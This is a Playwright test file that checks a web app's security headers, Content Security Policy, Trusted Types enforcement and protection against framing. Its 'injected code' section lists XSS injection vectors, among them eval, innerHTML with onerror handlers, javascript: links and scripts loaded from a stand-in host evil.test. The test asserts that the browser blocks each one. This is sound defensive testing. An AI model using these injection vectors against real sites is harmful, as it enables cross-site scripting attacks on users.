import type { Page } from '@playwright/test';
import { origins } from '../../support/origins.ts';
import { openLogin } from '../../support/session/openLogin.ts';
import { signIn } from '../../support/session/signIn.ts';
import { expect, test } from '../../support/test.ts';

const INERT = "default-src 'none'; frame-ancestors 'none'; sandbox";

interface Build {
  readonly base: string;
  readonly entry: string;
}

async function builds(page: Page): Promise<Build[]> {
  const set = (await (await page.request.get(`${origins.host}/remotes.json`)).json()) as {
    remotes: { current: Build }[];
  };
  return set.remotes.map(({ current }) => current);
}

/** Collects the policy violations of the page; some of them are reported on the console only. */
async function collectViolations(page: Page): Promise<string[]> {
  const violations: string[] = [];
  page.on('console', (message) => message.type() === 'error' && violations.push(message.text()));
  await page.exposeFunction('reportViolation', (text: string) => violations.push(text));
  await page.addInitScript(() => {
    const view = globalThis as unknown as { reportViolation(text: string): void };
    addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI, sample }) =>
      view.reportViolation([effectiveDirective, blockedURI, sample].join(' ')),
    );
  });
  return violations;
}

test('every response of the two origins has its security headers', async ({ page }) => {
  const script = /\/assets\/main\.[^"]+\.js/.exec(await (await page.request.get(origins.host)).text())?.[0];
  const [build] = await builds(page);
  const page_ = { 'x-frame-options': 'DENY', 'cross-origin-resource-policy': 'same-origin' };
  const shared = { 'access-control-allow-origin': '*', 'cross-origin-resource-policy': 'cross-origin' };
  for (const [address, status, policy, headers] of [
    [
      `${origins.host}/`,
      200,
      /script-src .*require-trusted-types-for 'script'; trusted-types default; report-uri http:\S+\/csp-reports$/,
      page_,
    ],
    [`${origins.host}/orders/nowhere`, 200, /frame-ancestors 'none'/, page_],
    [`${origins.host}${script}`, 200, INERT, page_],
    [`${origins.host}/config.json`, 200, INERT, page_],
    [`${origins.host}/remotes.json`, 200, INERT, page_],
    [`${origins.host}/assets/none.js`, 404, INERT, page_],
    [`${build?.base}${build?.entry}`, 200, INERT, shared],
    [`${build?.base}none.js`, 404, INERT, shared],
    [`${origins.cdn}/uploads/none.webp`, 404, INERT, shared],
    [`${origins.cdn}/postcode/v1/index.html`, 200, /frame-ancestors http:\/\/localhost:\d+; sandbox/, shared],
  ] as const) {
    const reply = await page.request.get(address);
    expect([address, reply.status()]).toEqual([address, status]);
    expect(reply.headers()).toMatchObject({ 'x-content-type-options': 'nosniff', ...headers });
    expect(reply.headers()['content-security-policy']).toEqual(
      policy instanceof RegExp ? expect.stringMatching(policy) : policy,
    );
  }
});

test('the sign-in page and the colour picker do not violate the content security policy', async ({ page }) => {
  const violations = await collectViolations(page);
  await openLogin(page);
  await expect(page.getByRole('button', { name: '카카오톡으로 로그인' })).toBeVisible();
  // The smoke tests check the first view of every screen.
  await signIn(page, '김소미', '/profile');
  await page.getByRole('button', { name: '색 고르기' }).first().click();
  await expect(page.getByRole('slider', { name: '색상' }).first()).toBeVisible();
  expect(violations).toEqual([]);
});

test('the browser enforces Trusted Types with the single policy of the host', async ({ page }) => {
  await openLogin(page);
  await expect(page.getByRole('button', { name: '카카오톡으로 로그인' })).toBeVisible();
  const policyName = await page.evaluate(() => {
    const { trustedTypes } = globalThis as unknown as { trustedTypes?: { defaultPolicy?: { name: string } | null } };
    return trustedTypes?.defaultPolicy?.name;
  });
  expect(policyName).toBe('default');
});

test.describe('injected code', () => {
  test.use({ allowedErrors: /Content Security Policy|Trusted|ERR_BLOCKED/ });

  // Each attempt sets `ran`, in a separate task: the policy does not apply to code that a debugger evaluates.
  const ATTEMPTS: Record<string, string> = {
    eval: `eval('ran = 1')`,
    'a function made of text': `new Function('ran = 1')()`,
    'a timer with text': `setTimeout('ran = 1')`,
    'a script with text': `add('script').text = 'ran = 1'`,
    'a script with a text node': `const script = document.createElement('script');
      script.append('ran = 1'); document.head.append(script)`,
    'a script of another origin': `add('script').src = 'http://evil.test/x.js'`,
    'an uploaded script': `add('script').src = cdn + '/uploads/x.js'`,
    'a script of another port of this machine': `add('script').src = 'http://localhost:9/x.js'`,
    'a script in its address': `add('script').src = 'data:text/javascript,ran=1'`,
    'a module of another origin': `import('http://evil.test/x.js').catch(() => {})`,
    markup: `add('div').innerHTML = '<img src="/none.png" onerror="ran = 1">'`,
    'markup beside': `document.body.insertAdjacentHTML('beforeend', '<img src="/none.png" onerror="ran = 1">')`,
    'markup written': `document.write('<script>ran = 1</' + 'script>')`,
    'a frame with markup': `add('iframe').srcdoc = '<script>parent.ran = 1</' + 'script>'`,
    'a handler in an attribute': `const button = add('button'); button.setAttribute('onclick', 'ran = 1'); button.click()`,
    'a link with code': `const link = add('a'); link.href = 'javascript:ran=1'; link.click()`,
    'a worker': `new Worker('/assets/x.js')`,
    'a policy of its own': `trustedTypes.createPolicy('mine', { createScript: (text) => text })`,
    'another default policy': `trustedTypes.createPolicy('default', { createScript: (text) => text })`,
  };

  test('injected code does not run, and the browser reports each attempt', async ({ page }) => {
    const violations = await collectViolations(page);
    await page.route('http://evil.test/**', (route) =>
      route.fulfill({
        contentType: 'text/javascript',
        headers: { 'Access-Control-Allow-Origin': '*' },
        body: 'ran = 1',
      }),
    );
    await page.route(`${origins.cdn}/uploads/x.js`, (route) =>
      route.fulfill({ contentType: 'text/javascript', body: 'ran = 1' }),
    );
    for (const [attempt, code] of Object.entries(ATTEMPTS)) {
      violations.length = 0;
      await openLogin(page);
      await expect(page.getByRole('button', { name: '카카오톡으로 로그인' })).toBeVisible();
      await page.evaluate(`setTimeout(() => {
        const cdn = '${origins.cdn}';
        const add = (name) => document.body.appendChild(document.createElement(name));
        ${code}
      })`);
      await expect.poll(() => violations, attempt).not.toEqual([]);
      expect([attempt, await page.evaluate(() => 'ran' in globalThis)]).toEqual([attempt, false]);
    }
  });

  test('another site cannot show the page in a frame', async ({ page }) => {
    await page.route('http://frames.test/', (route) =>
      route.fulfill({ contentType: 'text/html', body: `<iframe src="${origins.host}/login"></iframe>` }),
    );
    await page.goto('http://frames.test/');
    await expect.poll(() => page.frames()[1]?.url()).toMatch(/^chrome-error:/);
    await expect(page.frameLocator('iframe').getByRole('button', { name: '카카오톡으로 로그인' })).toHaveCount(0);
  });

  test('markup in the text of an order file is parsed and not run', async ({ page }) => {
    await openLogin(page);
    const rows = await page.evaluate(() => {
      const parsed = new DOMParser().parseFromString(
        '<table><tr><td><img src=x onerror="ran=1">1</table>',
        'text/html',
      );
      return parsed.querySelectorAll('tr').length;
    });
    expect(rows).toBe(1);
    expect(await page.evaluate(() => 'ran' in globalThis)).toBe(false);
  });
});
